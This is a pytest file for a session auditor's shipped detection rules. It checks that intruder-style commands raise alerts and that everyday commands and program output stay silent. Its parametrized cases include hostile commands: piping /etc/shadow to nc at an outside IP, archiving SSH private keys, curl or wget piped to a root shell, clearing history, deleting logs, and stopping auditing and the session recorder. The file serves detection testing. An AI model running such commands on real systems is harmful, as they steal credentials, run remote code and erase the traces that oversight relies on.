"""The rules that come with the program: right, about what they say, and silent in everyday sessions."""

import lzma
from dataclasses import replace
from pathlib import Path

import pytest

from auditor.rules.examples import failures
from auditor.rules.files import shipped
from auditor.rules.matcher import RuleSet
from auditor.transcript import Seen, Transcript
from benchmarks.sessions import Sessions
from recorder.formats.message import Output, Resize

RULES = shipped().rules
SAMPLES = Path(__file__).parent / "samples"


def alerts(lines):
    watch = RuleSet(RULES).watch("alice", "web1.example.test", 0.0)
    return [(alert.rule.name, alert.matched) for line in lines for alert in watch.line(line)]


def names_for(command):
    return {name for name, _ in alerts([Seen("command", 0, command)])}


def test_the_shipped_rules_have_no_mistake_and_keep_to_their_examples():
    assert shipped().mistakes == ()
    assert [str(failure) for failure in failures(RULES)] == []


def test_every_clause_of_the_shipped_rules_is_shown_by_an_example():
    """Or a clause that never matches anything would pass for one that works."""
    for rule in RULES:
        for number, clause in enumerate(rule.when):
            only = RuleSet([replace(rule, when=(clause,))])
            matched = [
                example
                for example in rule.match
                if (
                    only.of_line(example.line, example.value)
                    if example.line
                    else only.of_event(example.fields["event"]["action"], example.fields)
                )
            ]
            assert matched, f"{rule.name}: when {number + 1}"


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("cat /etc/shadow", "credentials-read"),
        ("sudo tail -n 3 /etc/shadow | nc 192.0.2.7 9", "credentials-read"),
        ("tar czf /tmp/k.tgz /home/bob/.ssh/id_ed25519", "credentials-read"),
        ("cd /tmp && history -c", "history-tampering"),
        ("HISTFILE=", "history-tampering"),
        ("unset -v HISTFILE HISTSIZE", "history-tampering"),
        ("for u in a b; do curl -s http://x/$u | sudo bash; done", "download-to-shell"),
        ("eval $(wget -qO- http://x)", "download-to-shell"),
        ("shred -u /var/log/wtmp", "logs-deleted"),
        ("sudo rm -f '/var/log/auth.log'", "logs-deleted"),
        ("cat /dev/null > /var/log/syslog", "logs-deleted"),
        ("sudo systemctl disable --now rsyslog.service", "auditing-stopped"),
        ("sudo auditctl -e0", "auditing-stopped"),
        ("sudo kill -9 $(pgrep -f session-recorder)", "recording-tampering"),
        ("chmod 6755 x", "setuid-set"),
        ("sudo gpasswd -a bob wheel", "sudo-rights-given"),
        ("sudo -E -u root bash", "root-shell"),
    ],
)
def test_what_an_intruder_types_is_seen(command, rule):
    assert rule in names_for(command)


@pytest.mark.parametrize(
    "command",
    [
        "git commit -m 'rm -rf /var/log is documented; history -c too'".replace("; ", " "),
        "man history",
        "grep -r 'curl | sh' docs",
        "echo HISTSIZE",
        "export HISTSIZE=5000 HISTFILESIZE=10000",
        "less /var/log/syslog",
        "tail -F /var/log/nginx/access.log | grep 404",
        "du -sh /var/log/*",
        "rm -rf node_modules build dist",
        "rm /home/alice/var/log.txt",
        "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519",
        "ssh-copy-id -i ~/.ssh/id_ed25519.pub web1",
        "scp -i ~/.ssh/id_rsa a.txt web1:",
        "chmod 600 ~/.ssh/id_rsa",
        "chmod -R u+rwX,go-w src",
        "chmod +x run.sh && ./run.sh",
        "sudo systemctl restart nginx sssd",
        "systemctl list-units --state=failed",
        "sudo journalctl -u session-recorder -n 50",
        "sudo -l",
        "sudo -u postgres psql",
        "sudo find /srv -name '*.log' -mtime +7",
        "docker run --rm -it debian bash",
        "curl -sSL https://example.test/x.tar.gz | tar xz",
        "kill %1; pkill -f myserver",
        "make install > /tmp/install.log 2>&1",
        "su - postgres -c 'pg_dump shop'",
    ],
)
def test_what_people_type_every_day_raises_nothing(command):
    assert names_for(command) == set()


def test_what_programs_print_every_day_raises_nothing():
    for data in (
        lzma.decompress((SAMPLES / "ls.raw.xz").read_bytes())[:500_000],
        lzma.decompress((SAMPLES / "vim.raw.xz").read_bytes())[:300_000],
        Sessions().output(300_000),
    ):
        transcript = Transcript()
        transcript.feed(Resize(0, 80, 24))
        lines = []
        for start in range(0, len(data), 4096):
            lines += transcript.feed(Output(start // 10, data[start : start + 4096]))
        lines += transcript.finish()
        assert len(lines) > 500
        assert alerts(lines) == []
